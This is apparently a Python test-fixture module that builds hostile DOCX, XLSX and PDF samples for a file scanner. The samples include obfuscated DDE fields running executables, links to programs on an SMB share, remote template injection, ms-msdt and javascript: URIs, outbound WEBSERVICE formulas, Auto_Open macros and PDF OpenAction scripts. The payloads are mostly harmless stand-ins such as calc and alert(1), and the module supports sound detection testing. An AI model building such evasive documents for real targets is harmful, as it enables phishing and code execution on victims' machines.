"""Files that act by another spelling: what Word, Excel or a viewer does at once, said in an unusual place."""

from __future__ import annotations

from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.files import hostile, samples
from tests.files.hostile import MZ, SCRIPT, W, action, cell, field, linked, pdf_with, related, typed, word

_MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
_PARTS = "application/vnd.openxmlformats-officedocument"


PAGE = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
)


def _run(text: str, element: str = "t") -> str:
    return f"<w:r><w:{element}>{text}</w:{element}></w:r>"


def _coded(*pieces: str) -> bytes:
    """A field whose code is made of any elements."""
    return word("".join((_MARK("begin"), *pieces, _MARK("separate"), _run("1"), _MARK("end"))))


def _code(text: str) -> str:
    return _run(text, "instrText")


def _shape(inner: str, more: str = "") -> bytes:
    names = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    return word(f"<w:pict><v:shape {names} {more}>{inner}</v:shape></w:pict>")


def _svg(body: str) -> bytes:
    return samples.docx({"word/media/a.svg": body})


def _part(name: str, body: str) -> bytes:
    return samples.xlsx({f"xl/{name}": body})


def _named_behind(zipped: bytes, comment: bytes) -> bytes:
    """The same archive with a comment, which no program shows."""
    return zipped[:-2] + len(comment).to_bytes(2, "little") + comment


def _in_header(at: int, value: bytes) -> bytes:
    """A DOCX whose second entry begins with another header than the directory says."""
    whole = bytearray(samples.docx())
    start = whole.index(b"PK\x03\x04", 4) + at
    whole[start : start + len(value)] = value
    return bytes(whole)


def _between() -> bytes:
    """A DOCX with bytes of a page before its directory, which begins that much later."""
    whole, odd = samples.docx(), b"<html><script>alert(1)</script></html>"
    at = whole.index(b"PK\x01\x02")
    moved = (at + len(odd)).to_bytes(4, "little")
    end = whole.rindex(b"PK\x05\x06")
    return whole[:at] + odd + whole[at : end + 16] + moved + whole[end + 20 :]


_SHARE = "\\\\10.0.0.1\\s\\calc.exe"
_CHOICE = "<mc:AlternateContent><mc:Choice>{}</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>"
_RELATED = '<Relationships><Relationship Id="r1" Type="http://x/{}" Target="{}"/></Relationships>'
WORDS: dict[str, tuple[bytes, str]] = {
    "DDE in the words of a letter": (_coded(_run(" DDEAUTO c:\\\\a.exe ")), "dde"),
    "DDE half in words": (_coded(_run("D"), _code("DEAUTO c:\\\\a.exe")), "dde"),
    "DDE by a simple field": (_coded('<w:fldSimple w:instr="QUOTE 68 68 69"/>', _code(" c:\\\\a.exe")), "dde"),
    "DDE behind unseen signs": (_coded(_code("\u200b" * 5_000 + "DDEAUTO a")), "dde"),
    "DDE behind a backslash": (_coded(_code("\\DDEAUTO a")), "dde"),
    "DDE around a deletion": (_coded(_code("DD"), f"<w:del>{_run('X', 'delInstrText')}</w:del>", _code("E a")), "dde"),
    "DDE around what is left out": (_coded(_code("DD"), _CHOICE.format(_code("X"), ""), _code("E a")), "dde"),
    "DDE behind a separator that is left out": (_coded(_CHOICE.format(_MARK("separate"), ""), _code("DDE a")), "dde"),
    "DDE around somebody's own element": (_coded(_code("DD"), f'<x:a xmlns:x="u">{_run("X")}</x:a>', _code("E a")), "dde"),
    "DDE around a symbol": (_coded(_code("D"), '<w:r><w:sym w:char="F044"/></w:r>', _code("E a")), "dde"),
    "DDE by numbers of pages": (_coded(_code("D"), field("PAGE \\* ALPHABETIC"), _code("E a")), "dde"),
    "DDE in a field marked twice": (
        word('<w:r><w:fldChar x:fldCharType="end" xmlns:x="u" w:fldCharType="begin"/></w:r>' + _code("DDE a")), "dde",
    ),
    "DDE behind a separator that is struck out": (_coded(f"<w:del>{_MARK('separate')}</w:del>", _code("DDE a")), "dde"),
    "DDE behind a separator that is put in": (_coded(f"<w:ins>{_MARK('separate')}</w:ins>", _code("DDE a")), "dde"),
    "DDE behind an end that is struck out": (_coded(_code("PAGE"), f"<w:del>{_MARK('end')}</w:del>", _code(" x")), "dde"),
    "DDE outside of fields": (word(_code("PAGE ") + field("PAGE") + _code("DDEAUTO a")), "dde"),
    "a program behind its end": (samples.docx() + MZ, "mixed"),
    "a page in its comment": (_named_behind(samples.docx(), b"<html><script>alert(1)</script>"), "mixed"),
    "a page between its entries": (_between(), "mixed"),
    "an entry that calls itself locked": (_in_header(6, b"\x01"), "structure"),
    "an entry of another size": (_in_header(22, b"\xff\x00"), "structure"),
    "an entry packed otherwise": (_in_header(8, b"\x00"), "structure"),
    "a field's link to a program on a share": (word(field(' HYPERLINK "\\\\\\\\10.0.0.1\\\\s\\\\calc.exe" ')), "link"),
    "a field's link to a program here": (word(field(' HYPERLINK "file:///c:/windows/system32/calc.exe"')), "link"),
    "a field's link behind its switches": (word(field(' HYPERLINK \\h \\o "Bấm" "ms-msdt:/id a"')), "link"),
    "a field's link in curly quotes": (word(field(" HYPERLINK “javascript:alert(1)”")), "link"),
    "a field's link by another field": (word(field(' HYPERLINK "', field("REF a"), '"')), "link"),
    "a simple field's link": (word('<w:fldSimple w:instr="HYPERLINK \\\\10.0.0.1\\a.exe"/>'), "link"),
    "a field of an object": (word(field(" EMBED Package ")), "embedded"),
    "a field of a control": (word(field(" CONTROL Forms.CommandButton.1 ")), "embedded"),
    "a field that no Word knows": (word(field(' PRINT 27 "x"')), "field"),
    "a link that is spelled with a tab": (related("hyperlink", "fi&#9;le://10.0.0.1/a"), "link"),
    "a link upwards to a program": (related("hyperlink", "../../Windows/System32/calc"), "link"),
    "a link of a shape": (_shape("", 'href="file://10.0.0.1/s/calc.exe"'), "link"),
    "a shape's picture from elsewhere": (_shape('<v:imagedata src="http://10.0.0.1/a.png"/>'), "external"),
    "a shape's picture by reference": (_shape('<v:imagedata o:href="http://10.0.0.1/a.png"/>'), "external"),
    "a shape's picture behind an empty one": (_shape('<v:imagedata o:href="http://10.0.0.1/" v:href=""/>'), "external"),
    "a shape filled from a share": (_shape('<v:fill src="\\\\10.0.0.1\\a.png"/>'), "external"),
    "a source of data for a mail": (
        samples.docx({"word/settings.xml": f'<w:settings {W}><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>'}),
        "merge",
    ),
    "a shape that starts a program": (word('<a:hlinkClick action="ppaction://program?calc.exe"/>'), "action"),
    "a schema from elsewhere": (word('<sl:schema sl:uri="x" sl:manifestLocation="http://10.0.0.1/m.xml"/>'), "external"),
    "a film from the web": (word('<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"/>'), "media"),
    "a picture that says it is inside": (samples.docx({"word/_rels/document.xml.rels": _RELATED.format("image", "file://10.0.0.1/a.png")}), "external"),
    "a template on a share": (related("attachedTemplate", "file:///\\\\10.0.0.1\\a\\CongVan.dotm", part="settings"), "template"),
    "a template spelled with signs": (related("attachedTemplate", "file:///%5C%5C10.0.0.1/C:/a.dotm", part="settings"), "template"),
    "a batch file that calls itself a printer's settings": (
        typed(f"{_PARTS}.spreadsheetml.printerSettings", b"@echo off\r\ncalc.exe\r\n", "word/evil.bat"), "embedded",
    ),
    "a batch file under a printer's name": (
        typed(f"{_PARTS}.spreadsheetml.printerSettings", b"@echo off\r\ncalc.exe\r\n", "word/p.bin"), "embedded",
    ),
    "a script that calls itself a font": (typed(f"{_PARTS}.obfuscatedFont", b'Run "calc"' * 20, "word/evil.odttf"), "embedded"),
    "a font under a program's name": (typed(f"{_PARTS}.obfuscatedFont", samples.hidden_font(), "word/a.exe"), "embedded"),
    "a page of the web": (typed("text/html", "<html><body>x</body></html>", "word/a.html"), "embedded"),
    "a page of the web under XML's name": (samples.docx({"word/a.xml": '<html xmlns="http://www.w3.org/1999/xhtml"/>'}), "embedded"),
    "a program packed as a drawing": (samples.docx({"word/media/a.emz": samples.gzipped(MZ)}), "embedded"),
    "a drawing with something behind it": (samples.docx({"word/media/a.emz": samples.gzipped(samples.emf()) + MZ}), "embedded"),
    "a drawing that unpacks to too much": (samples.docx({"word/media/a.emz": samples.gzipped(bytes(70 * 1024**2))}), "bomb"),
    "a workbook that acts, behind a chart": (samples.docx({"word/embeddings/a.xlsx": cell("cmd|'/c calc'!A1")}), "dde"),
    "a workbook in a workbook behind a chart": (
        samples.docx({"word/embeddings/a.xlsx": samples.xlsx({"xl/embeddings/b.xlsx": samples.xlsx()})}), "embedded",
    ),
    "a letter behind a chart": (samples.docx({"word/embeddings/a.xlsx": samples.docx()}), "type"),
    "two main parts": (
        samples.docx({"_rels/.rels": "<Relationships>" + "".join(
            f'<Relationship Type="http://x/officeDocument" Target="word/{name}.xml"/>' for name in ("document", "b")
        ) + "</Relationships>", "word/b.xml": "<x/>"}), "broken",
    ),
    "a drawing with a script, not at its root": (_svg('<x><svg><script>a()</script></svg></x>'), "script"),
    "a drawing that links to a script": (_svg('<x><svg><a href="javascript:alert(1)"/></svg></x>'), "link"),
    "a drawing that becomes a link to a script": (_svg('<svg><a><set attributeName="xlink:href" to="javascript:a()"/></a></svg>'), "script"),
    "a drawing with a page": (_svg('<svg><iframe src="http://10.0.0.1/"/></svg>'), "script"),
    "a drawing within a drawing": (_svg('<svg><image href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>'), "external"),
    "a drawing with a style from elsewhere": (_svg("<svg><style>@import url(http://10.0.0.1/a.css);</style></svg>"), "external"),
    "a drawing with a hidden style": (_svg("<svg><style>@\\69mport 'http://10.0.0.1/a.css';</style></svg>"), "external"),
    "a drawing filled from elsewhere": (_svg('<svg><rect style="fill: url( http://10.0.0.1/#a )"/></svg>'), "external"),
    "a drawing with a style sheet": (_svg('<?xml-stylesheet href="http://10.0.0.1/a.xsl" type="text/xsl"?><svg/>'), "script"),
    "a drawing with words of its own": (_svg('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/a.dtd" [<!ENTITY a "b">]><svg/>'), "entities"),
}  # fmt: skip
_TABLE = "<table><tableColumns><tableColumn><{0}>{1}</{0}></tableColumn></tableColumns></table>"
SHEETS: dict[str, tuple[bytes, str]] = {
    "a formula with somebody's own element": (cell('WEBSERVICE<x:n xmlns:x="u">A1 B</x:n>("http://10.0.0.1/")'), "broken"),
    "a formula with an alternative": (cell(f'WEB{_CHOICE.format("", "")}SERVICE("http://10.0.0.1/")'), "broken"),
    "the network between two columns": (cell("T[a'#]&amp;_xlfn.WEBSERVICE(\"http://10.0.0.1/\"&amp;A1)&amp;T[b'#]"), "external"),
    "DDE between two columns": (cell("T[a'#]&amp;cmd|/c!A1&amp;T[b'#]"), "dde"),
    "DDE behind a column with brackets": (cell("T[[#This Row],[a']]]&amp;cmd|/c!A1"), "dde"),
    "DDE behind a text with quotes": (cell('"a""|"&amp;cmd|/c!A1'), "dde"),
    "the network after a space": (cell('_xlfn.WEBSERVICE ("http://10.0.0.1/")'), "external"),
    "the network after a wide space": (cell('_xlfn.WEBSERVICE\u00a0("http://10.0.0.1/")'), "external"),
    "a file asked for by Excel 4": (cell('FILE.EXISTS("\\\\10.0.0.1\\s\\a")'), "macro"),
    "a program called by Excel 4": (_part("n.xml", '<definedName name="a">VBA.MAKE.ADDIN("a")</definedName>'), "macro"),
    "a macro of an add-in": (cell("'a.xlam'!EVIL(1)"), "external"),
    "a macro of an add-in without quotes": (cell("PERSONAL.XLSB!EVIL"), "external"),
    "the network in wide letters": (cell('ＷＥＢＳＥＲＶＩＣＥ（"http://10.0.0.1/"）'), "external"),
    "a text sent to be translated": (cell('_xlfn.TRANSLATE(A1,"vi","en")'), "external"),
    "a name that starts by itself, behind a blank": (_part("n.xml", '<definedName name=" Auto_Open">M!$A$1</definedName>'), "macro"),
    "the network handed on": (cell("MAP(A1:A9,_xleta.WEBSERVICE)"), "external"),
    "the network in a column": (_part("t.xml", _TABLE.format("calculatedColumnFormula", '_xlfn.WEBSERVICE("a")')), "external"),
    "the network in a total": (_part("t.xml", _TABLE.format("totalsRowFormula", '_xlfn.WEBSERVICE("a")')), "external"),
    "a formula made of a text": (_part("n.xml", '<definedName name="a">EVALUATE("cmd|"&amp;"/c!A1")</definedName>'), "macro"),
    "a database": (cell('SQL.REQUEST("DSN=x","","","select")'), "external"),
    "DDE of LibreOffice": (cell('DDE("soffice","c:\\a.ods","A1")'), "dde"),
    "a link to a program on a share": (cell(f'HYPERLINK("{_SHARE}","Bấm")'), "link"),
    "a link to a program put together": (cell('HYPERLINK("\\\\10.0.0.1"&amp;"\\a.exe","Bấm")'), "link"),
    "a link to what a cell says": (cell('IF(A1,"a",HYPERLINK(A1,"Bấm"))'), "link"),
    "a link to another book on a share": (cell('HYPERLINK("[\\\\10.0.0.1\\a]S!A1")'), "link"),
    "another book on a share": (cell("'\\\\10.0.0.1\\s\\[a.xlsx]S'!A1"), "external"),
    "another book on the web": (cell("'http://10.0.0.1/[a.xlsx]S'!A1"), "external"),
    "another book without quotes": (cell("[a.xlsx]S!A1"), "external"),
    "a place that is a share": (_part("s.xml", f'<worksheet><hyperlink ref="A1" location="{_SHARE}"/></worksheet>'), "link"),
    "a name that starts by itself": (_part("n.xml", '<definedName name="_xlnm.Auto_Open">M!$A$1</definedName>'), "macro"),
    "a formula of a picture": (_part("d.xml", '<xdr:sp textlink="cmd|/c!A1"/>'), "dde"),
    "a workbook that publishes itself": (
        _part(
            "w.xml",
            '<webPublishObjects><webPublishObject id="1" divId="a" destinationFile="\\\\10.0.0.1\\a.htm" '
            'autoRepublish="1"/></webPublishObjects>',
        ),
        "external",
    ),
    "a query": (_part("q.xml", '<queryTable refreshOnLoad="1"/>'), "external"),
    "a pivot table of data elsewhere": (_part("p.xml", '<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>'), "external"),
}  # fmt: skip


def _annotated(**more: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        one = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **more)
        document.pages[0].Annots = Array([document.make_indirect(one)])

    return change


def _elsewhere(name: str) -> Dictionary:
    return Dictionary(Type=Name.Filespec, F=String(name), UF=String(name))


def _related_program(document: pikepdf.Pdf) -> None:
    data, program = document.make_stream(b'{"a": 1}'), document.make_stream(MZ)
    files = Dictionary(F=Array([String("a.json"), data, String("evil.exe"), program]))
    one = Dictionary(F=String("a.json"), UF=String("a.json"), EF=Dictionary(F=data), RF=files)
    document.Root.AF = Array([document.make_indirect(one)])


def _named_a_program(document: pikepdf.Pdf) -> None:
    data = document.make_stream(b'{"a": 1}')
    one = document.make_indirect(Dictionary(F=String("a.json"), EF=Dictionary(F=data)))
    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), one])))


def _film(document: pikepdf.Pdf) -> None:
    clip = Dictionary(S=Name.MCD, D=_elsewhere("http://example.vn/a.mp4"), CT=String("video/mp4"))
    shown = Dictionary(S=Name.MR, C=clip)
    document.Root.Names = Dictionary(Renditions=Dictionary(Names=Array([String("a"), shown])))


def _replaced(document: pikepdf.Pdf) -> None:
    other = Dictionary({"/2.0": Dictionary(Type=Name.OPI, F=_elsewhere("\\\\10.0.0.1\\a.tif"))})
    form = document.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), OPI=other
    )
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=form))


def _script_of_the_paper_s_data(document: pikepdf.Pdf) -> None:
    document.docinfo["/JS"] = String("app.alert(1)")
    document.docinfo["/S"] = Name.JavaScript
    document.Root.OpenAction = document.docinfo


def _used_twice(document: pikepdf.Pdf) -> None:
    """An action that is read first as what a page does at its moments, of which it names none."""
    one = document.make_indirect(action("URI", URI=String("https://example.vn/")))
    document.pages[0].AA = one
    document.pages[0].Annots = Array(
        [document.make_indirect(Dictionary(Type=Name.Annot, AA=Dictionary(PO=one)))]
    )


def _listed_twice(document: pikepdf.Pdf) -> None:
    many = document.make_indirect(Array([action("Baz"), action("Baz")]))
    document.Root.Names = Dictionary(Dests=Dictionary(Names=many))
    linked(action("GoTo", D=Array([0, Name.Fit]), Next=many))(document)


def _unlisted(between: bytes, kind: bytes) -> bytes:
    """A paper with an object behind its table, which a reader that repairs files finds."""
    whole = samples.pdf(1)
    at = whole.rindex(b"startxref")
    return whole[:at] + b"99 0 obj\n<< /S %b/%b >>\nendobj\n" % (between, kind) + whole[at:]


def _table_in_a_stream(index: bytes) -> bytes:
    """A paper whose table is a stream for the numbers of `index`."""
    body, rows = b"%PDF-1.7\n", bytes(4)
    for number, one in enumerate(PAGE, start=1):
        rows += b"\x01" + len(body).to_bytes(2) + b"\x00"
        body += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    rows += b"\x01" + len(body).to_bytes(2) + b"\x00"
    table = b"4 0 obj\n<< /Type /XRef /Root 1 0 R /Size 5 /W [1 2 1] /Index %b /Length %d >>\nstream\n%b\nendstream\nendobj\n"
    return body + table % (index, len(rows), rows) + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _address(text: str | bytes) -> bytes:
    return pdf_with(linked(action("URI", URI=String(text))))


_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
#: What a browser runs when such a file is opened by itself.
LIVE_XML = {
    "a picture": f'<img {_XHTML} src="x" onerror="alert(1)"/>',
    "a page's body": f'<r><body {_XHTML} onload="alert(1)"/></r>',
    "a way elsewhere": f'<r><meta {_XHTML} http-equiv="refresh" content="0;url=http://10.0.0.1/"/></r>',
    "a link": '<r><x:a xmlns:x="http://www.w3.org/1999/xhtml" href="javascript:alert(1)">x</x:a></r>',
    "a drawing": '<r xmlns:s="http://www.w3.org/2000/svg"><s:image href="x" onerror="alert(1)"/></r>',
    "an equation": '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>',
}
PDFS: dict[str, tuple[bytes, str]] = {
    **{f"data that a browser runs: {name}": (pdf_with(hostile.attaching(one.encode(), "hoa-don.xml")), "embedded") for name, one in LIVE_XML.items()},
    "an object listed twice": (hostile.tabled(*PAGE, b"<< /A 1 >>", twice=3), "structure"),
    "an object listed twice, in a stream": (_table_in_a_stream(b"[0 4 3 1]"), "structure"),
    "a table that is elsewhere": (hostile.tabled(*PAGE).replace(b"startxref\n", b"startxref\n9"), "structure"),
    "a table with an object elsewhere": (hostile.tabled(*PAGE).replace(b"0000000058", b"0000000061"), "structure"),
    "a table of other lines": (hostile.tabled(*PAGE).replace(b" n \n", b" n\n"), "structure"),
    "a key said twice": (hostile.tabled(b"<< /Type /Catalog /Pages 2 0 R /Names << >> /Names 3 0 R >>", *PAGE[1:]), "structure"),
    "another file by its thread": (pdf_with(linked(action("Thread", F=_elsewhere("\\\\10.0.0.1\\a.pdf"), D=0))), "action"),
    "an action that nobody knows": (pdf_with(linked(action("Baz", D=0))), "action"),
    "an action of an older link": (pdf_with(_annotated(Subtype=Name.Link, PA=action("Baz"))), "action"),
    "an action after another": (pdf_with(linked(action("GoTo", D=Array([0, Name.Fit]), Next=Array([action("Baz")])))), "action"),
    "an address by itself, read as something else before": (pdf_with(_used_twice), "action"),
    "actions that were read as names before": (pdf_with(_listed_twice), "action"),
    "a command of the viewer": (pdf_with(linked(action("Named", N=Name.SaveAs))), "action"),
    "a script in the paper's data": (pdf_with(_script_of_the_paper_s_data), "script"),
    "a program that goes with a file": (pdf_with(_related_program), "embedded"),
    "a file offered as a program": (pdf_with(_named_a_program), "embedded"),
    "a file that is elsewhere": (pdf_with(_annotated(Subtype=Name.FileAttachment, FS=_elsewhere("\\\\10.0.0.1\\a.exe"))), "external"),
    "a file that is elsewhere, by its name": (pdf_with(_annotated(Subtype=Name.FileAttachment, FS=String("\\\\10.0.0.1\\a"))), "external"),
    "a picture that is replaced from elsewhere": (pdf_with(_replaced), "external"),
    "a film from elsewhere": (pdf_with(_film), "external"),
    "a time stamp from elsewhere": (pdf_with(_annotated(SV=Dictionary(TimeStamp=Dictionary(URL=String("http://a/"))))), "external"),
    "a script broken over lines": (_address("java\nscript:alert(1)"), "link"),
    "a script behind a control": (_address("\x01javascript:alert(1)"), "link"),
    "a share with a tab": (_address("fi\tle://10.0.0.1/a.exe"), "link"),
    "a share by two slashes": (_address("/\\10.0.0.1\\a.exe"), "link"),
    "a file for a mail": (_address("mailto:a@example.vn?attach=c:\\a"), "link"),
    "a program beside the paper": (_address("calc.exe"), "link"),
    "a script behind a comment, in no table": (_unlisted(b"%x\n", b"JavaScript"), "script"),
    "a script behind comments, in no table": (_unlisted(b"%/S%/S x\r\n  %/S\n", b"J#61vaScript"), "script"),
    "another file, in no table": (_unlisted(b"", b"GoToR"), "action"),
    "a film, in no table": (_unlisted(b"\x00", b"Rendition"), "action"),
    "comments without end, in no table": (_unlisted(b"%\n" * 40, b"P"), "broken"),
    "a script in the page's own action": (pdf_with(_annotated(Subtype=Name.Widget, AA=Dictionary(U=SCRIPT))), "script"),
}  # fmt: skip
FILES = [
    (name, extension, data, why)
    for extension, found in (("pdf", PDFS), ("docx", WORDS), ("xlsx", SHEETS))
    for name, (data, why) in found.items()
]
